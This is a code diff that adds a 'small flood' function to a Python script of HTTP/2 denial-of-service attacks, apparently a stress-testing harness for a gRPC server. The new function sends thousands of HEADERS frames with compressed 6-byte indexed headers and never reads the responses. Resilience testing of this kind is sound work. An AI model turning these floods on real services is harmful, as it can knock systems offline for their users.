@@ -167,6 +167,22 @@ def flood(peer):
     return peer.send()
 
 
+def small_flood(peer):
+    """The same with headers of 6 bytes: those of the first call are remembered."""
+    if not peer.unsent:
+        count = 5000
+        if peer.next == 1:
+            fields = [(":path", CREATE), (":authority", "a"), ("content-type", "application/grpc"), ("te", "trailers")]
+            block = b"\x83\x86" + b"".join(b"\x40" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+                                           for name, value in fields)
+            count = 1
+        else:
+            block = b"\x83\x86\xc1\xc0\xbf\xbe"
+        peer.send(b"".join(frame(HEADERS, 4, peer.next + 2 * i, block) for i in range(count)))
+        peer.next += 2 * count
+    return peer.send()
+
+
 def bomb(peer):
     """One header that never ends."""
     if peer.next == 1:
@@ -204,6 +220,7 @@ ATTACKS = {
     "reflection streams": streams_that_stay(REFLECT, LISTING, 300),
     "health watches": streams_that_stay(WATCH, message(0), 300, 1),
     "a flood of calls, no answer read": flood,
+    "a flood of small calls, no answer read": small_flood,
     "a header that never ends": bomb,
     "packed messages": packed,
     "connections alone": idle,
@@ -229,7 +246,7 @@ def attack(port, step, connections, seconds, sampler):
     while time.monotonic() < end:
         while len(peers) < connections:
             try:
-                peers.append(Peer(port, acknowledge=step not in (flood, bomb)))
+                peers.append(Peer(port, acknowledge=step not in (flood, small_flood, bomb)))
                 opened += 1
             except OSError:
                 break
